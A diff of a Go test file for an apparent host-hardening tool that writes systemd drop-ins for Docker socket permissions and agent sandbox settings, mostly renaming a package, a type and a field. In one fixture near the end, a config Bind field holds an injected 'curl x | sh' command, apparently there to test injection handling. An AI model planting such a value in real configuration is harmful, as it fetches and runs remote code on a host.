@@ -1,4 +1,4 @@
-package remedy
+package dropin
 
 import (
 	"slices"
@@ -16,13 +16,13 @@ func failing(id, path string) finding.Result {
 }
 
 // planned is the files that a plan has for a snapshot and the checks that failed.
-func planned(s *snapshot.Snapshot, results ...finding.Result) ([]File, *Plan) {
-	p := &Plan{}
+func planned(s *snapshot.Snapshot, results ...finding.Result) ([]File, *maker) {
+	p := &maker{}
 	for i := range results {
 		f := &results[i].Findings[0]
-		p.Manual = append(p.Manual, Manual{results[i].ID, f.Message, "config", "x", f.Resource.Path})
+		p.left = append(p.left, Manual{results[i].ID, f.Message, "config", "x", f.Resource.Path})
 	}
-	return p.dropIns(&finding.Report{Results: results}, s), p
+	return p.services(&finding.Report{Results: results}, s), p
 }
 
 var root = snapshot.Word{By: snapshot.ByRoot}
@@ -44,8 +44,8 @@ func TestSocketOfAUserGetsNoFile(t *testing.T) {
 		sock.Runtime, sock.Mode = "containerd", 0o666
 		s := &snapshot.Snapshot{Runtimes: snapshot.Runtimes{Sockets: []snapshot.ControlSocket{sock}}}
 		files, p := planned(s, failing(check, sock.Path))
-		if len(files) != 0 || len(p.Manual) != 1 || strings.Contains(p.Manual[0].What, "\n") || strings.Contains(p.Manual[0].Text, "chmod") {
-			t.Errorf("%s: %+v %+v", name, files, p.Manual)
+		if len(files) != 0 || len(p.left) != 1 || strings.Contains(p.left[0].What, "\n") || strings.Contains(p.left[0].Text, "chmod") {
+			t.Errorf("%s: %+v %+v", name, files, p.left)
 		}
 	}
 }
@@ -60,8 +60,8 @@ func TestSocketFile(t *testing.T) {
 		Groups: []snapshot.Group{{Name: "docker", GID: 998, Runtime: "docker"}},
 	}}
 	files, p := planned(s, failing(check, "/run/docker.sock"))
-	if len(files) != 1 || len(p.Manual) != 0 {
-		t.Fatalf("%d files, %d left to people", len(files), len(p.Manual))
+	if len(files) != 1 || len(p.left) != 0 {
+		t.Fatalf("%d files, %d left to people", len(files), len(p.left))
 	}
 	f := files[0]
 	if f.Path != "/etc/systemd/system/docker.socket.d/50-ringfence.conf" || f.Want["/run/docker.sock"] != "0660 0:998" ||
@@ -88,7 +88,7 @@ func TestDockerFile(t *testing.T) {
 		t.Errorf("%+v", files)
 	}
 	s.Runtimes.TLS[0].Args = []string{"/usr/bin/dockerd", "-H", "fd://"} // daemon.json opens it
-	if files, p := planned(s, failing("runtime/docker-api-on-tcp", "")); len(files) != 1 || files[0].ByHand == "" || len(p.Manual) != 1 {
+	if files, p := planned(s, failing("runtime/docker-api-on-tcp", "")); len(files) != 1 || files[0].ByHand == "" || len(p.left) != 1 {
 		t.Errorf("%+v", files)
 	}
 	if files, _ := planned(s); len(files) != 0 {
@@ -119,8 +119,8 @@ func TestDockerFileIsAboutDockerServiceAlone(t *testing.T) {
 		change(&d, &p)
 		s := &snapshot.Snapshot{Runtimes: snapshot.Runtimes{TLS: []snapshot.DaemonTLS{d}}, Processes: snapshot.Processes{List: []snapshot.Process{p}}}
 		files, plan := planned(s, failing("runtime/docker-api-on-tcp", ""))
-		if len(files) != 0 || len(plan.Manual) != 2 || !strings.Contains(plan.Manual[1].Text, "no file is written for it: ") {
-			t.Errorf("%s: %+v %+v", name, files, plan.Manual)
+		if len(files) != 0 || len(plan.left) != 2 || !strings.Contains(plan.left[1].Text, "no file is written for it: ") {
+			t.Errorf("%s: %+v %+v", name, files, plan.left)
 		}
 	}
 }
@@ -150,12 +150,12 @@ func TestAgentFiles(t *testing.T) {
 		!strings.Contains(o.Content, "agents.defaults.sandbox.mode all") {
 		t.Errorf("openclaw: %+v", o)
 	}
-	if len(p.Manual) != 2 { // what is by hand stays with people
-		t.Errorf("left to people: %+v", p.Manual)
+	if len(p.left) != 2 { // what is by hand stays with people
+		t.Errorf("left to people: %+v", p.left)
 	}
 	s.Agents.Instances[0].Runs.Verified = false
-	if files, p := planned(s, failing("capability/no-new-privs-off", "")); len(files) != 0 || len(p.Manual) != 2 {
-		t.Errorf("not verified: %+v %+v", files, p.Manual)
+	if files, p := planned(s, failing("capability/no-new-privs-off", "")); len(files) != 0 || len(p.left) != 2 {
+		t.Errorf("not verified: %+v %+v", files, p.left)
 	}
 	s.Agents.Instances[0] = native
 	s.Agents.Instances[0].Config = &snapshot.OpenClawConfig{Path: "/home/a/x", Bind: "lan; curl x | sh"}
